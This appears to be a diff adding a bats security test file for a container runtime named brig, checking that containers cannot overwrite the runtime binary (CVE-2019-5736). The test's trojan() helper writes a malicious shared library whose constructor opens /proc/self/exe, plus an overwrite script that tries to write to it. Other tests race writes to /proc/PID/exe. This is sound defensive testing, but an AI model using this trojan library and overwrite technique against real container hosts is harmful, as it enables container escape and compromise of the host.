@@ -1,0 +1,181 @@
+#!/usr/bin/env bats
+# SPDX-License-Identifier: Apache-2.0
+# Our own binary: no container can open it for writing, nor get it out of the mount that forbids it.
+load helpers
+load exec
+load security
+
+setup_file() {
+	attack_begin
+	trojan "$TEMPLATE/rootfs"
+}
+
+setup() {
+	test_begin
+	BEFORE=$(sha256sum "$BRIG"; stat -c '%i %s %Y %a' "$BRIG")
+}
+
+teardown() {
+	nobody_end
+	test_end
+}
+
+assert_intact() {
+	equal "$BEFORE" "$(sha256sum "$BRIG"; stat -c '%i %s %Y %a' "$BRIG")"
+}
+
+# The libraries that brig is linked with, one of them the image's own: it opens what it is run from,
+# leaves the descriptor to a program of the image, and that writes to it when brig has ended.
+trojan() { # ROOTFS
+	local lib
+
+	ldd "$BRIG" | grep -o '/[^ ]*' | while read -r lib; do
+		mkdir -p "$1$(dirname "$lib")"
+		cp "$lib" "$1$lib"
+	done
+	lib=$(ldd "$BRIG" | grep -o '/[^ ]*libcap[^ ]*' || :)
+	[ -n "$lib" ] || return 0
+	cat > "$BATS_FILE_TMPDIR/trojan.c" <<- 'END'
+		#include <fcntl.h>
+		#include <unistd.h>
+		__attribute__((constructor)) static void enter(void)
+		{
+			dup2(open("/proc/self/exe", O_RDONLY), 9);
+			execl("/bin/sh", "sh", "/bin/overwrite", (char *)0);
+		}
+	END
+	cc -shared -fPIC -O1 -nostartfiles -o "$BATS_FILE_TMPDIR/trojan.so" "$BATS_FILE_TMPDIR/trojan.c"
+	cp "$BATS_FILE_TMPDIR/trojan.so" "$1$lib"
+	cat > "$1/bin/overwrite" <<- 'END'
+		echo "held $(sha256sum < /proc/self/fd/9)"
+		for i in 1 2 3 4 5 6 7 8 9 10; do
+			echo owned 2> /dev/null > /proc/self/fd/9 && echo written && exit
+			echo owned 2> /dev/null >> /proc/self/fd/9 && echo appended && exit
+			sleep 0.1
+		done
+	END
+	chmod +x "$1/bin/overwrite"
+}
+
+# It was brig that was run, and the trojan got hold of it; a static brig has no use for libraries.
+assert_trojan() {
+	! ldd "$BRIG" | grep -q libcap || has "^held ${BEFORE%% *} "
+	hasnt 'written|appended'
+	assert_intact
+}
+
+@test "an image whose program is /proc/self/exe, with a library of its own (CVE-2019-5736)" {
+	local program
+
+	printf '#!/proc/self/exe\n' > "$BUNDLE/rootfs/bin/entry"
+	chmod +x "$BUNDLE/rootfs/bin/entry"
+	for program in /proc/self/exe entry /proc/thread-self/exe; do
+		config_args "$program"
+		run_bundle
+		assert_trojan
+		config_args sleep 1000
+		start
+		inside "$program"
+		assert_trojan
+		brig delete --force "$ID"
+	done
+}
+
+@test "an image that waits for brig to be run from a link to /proc/self/exe (CVE-2019-5736)" {
+	ln -sf /proc/self/exe "$BUNDLE/rootfs/bin/entry"
+	config_args entry
+	run_bundle
+	assert_trojan
+	config_args /proc/1/exe
+	run_bundle
+	assert_trojan
+}
+
+# A container with every right that lets it hold our executable open; each exec is a chance.
+@test "a container that opens every /proc/PID/exe for writing while brig execs into it often (CVE-2019-5736)" {
+	local i
+
+	capabilities CAP_SYS_PTRACE CAP_DAC_OVERRIDE
+	attacker write
+	for ((i = 0; i < EXECS; i++)); do
+		brig exec "$ID-a" true < /dev/null
+	done
+	output=$(< "$SAID")
+	has '^seen$'
+	has '^taken$'
+	hasnt 'written|truncated'
+	brig delete --force "$ID-a"
+	assert_intact
+}
+
+@test "the same with the init of other containers, in a pid namespace that is joined (CVE-2019-5736)" {
+	local i pid
+
+	capabilities CAP_SYS_PTRACE CAP_DAC_OVERRIDE
+	attacker write
+	pid=$(state_of pid "$ID-a")
+	victim
+	config '.linux.namespaces |= map(if .type == "pid" then .path = $p else . end)' --arg p "/proc/$pid/ns/pid"
+	config_args true
+	for ((i = 0; i < RACES; i++)); do
+		brig run -b "$VICTIM" "$ID" < /dev/null
+	done
+	output=$(< "$SAID")
+	has '^taken$'
+	hasnt 'written|truncated'
+	brig delete --force "$ID-a"
+	assert_intact
+}
+
+@test "the mount that we run from cannot be made writable, cloned or moved, with all rights (CVE-2019-5736)" {
+	capabilities CAP_SYS_PTRACE CAP_DAC_OVERRIDE CAP_SYS_ADMIN CAP_DAC_READ_SEARCH CAP_SYS_CHROOT CAP_FOWNER
+	config_args true
+	create
+	inside attack unlock /proc/1/exe
+	equal 0 "$status"
+	is seen
+	assert_intact
+}
+
+@test "rootless: what brig runs from is sealed, and its container cannot write to it (CVE-2019-5736)" {
+	local pid
+
+	nobody_begin
+	as_nobody create -b "$BUNDLE" "$ID" < /dev/null > "$BATS_TEST_TMPDIR/out" 2>&1
+	pid=$(as_nobody state "$ID" | jq .pid)
+	run readlink "/proc/$pid/exe"
+	has 'memfd:brig'
+	run -0 python3 - "$pid" <<- 'END'
+		import fcntl, os, sys
+		fd = os.open('/proc/%s/exe' % sys.argv[1], os.O_RDONLY)
+		print(fcntl.fcntl(fd, fcntl.F_GET_SEALS) & 15)
+	END
+	is 15
+	run as_nobody exec "$ID" attack unlock /proc/1/exe < /dev/null
+	is seen
+	as_nobody delete --force "$ID"
+	assert_intact
+}
+
+@test "rootless: a container that opens every /proc/PID/exe for writing while brig execs into it often (CVE-2019-5736)" {
+	local i
+
+	nobody_begin
+	config_args attack write
+	as_nobody run -d -b "$BUNDLE" "$ID" < /dev/null > "$BATS_TEST_TMPDIR/said" 2>&1
+	for ((i = 0; i < EXECS; i++)); do
+		as_nobody exec "$ID" true < /dev/null
+	done
+	output=$(< "$BATS_TEST_TMPDIR/said")
+	has '^seen$'
+	hasnt 'written|truncated'
+	as_nobody delete --force "$ID"
+	assert_intact
+}
+
+@test "rootless: an image whose program is /proc/self/exe, with a library of its own (CVE-2019-5736)" {
+	nobody_begin
+	config_args /proc/self/exe
+	run as_nobody run -b "$BUNDLE" "$ID" < /dev/null
+	assert_trojan
+}
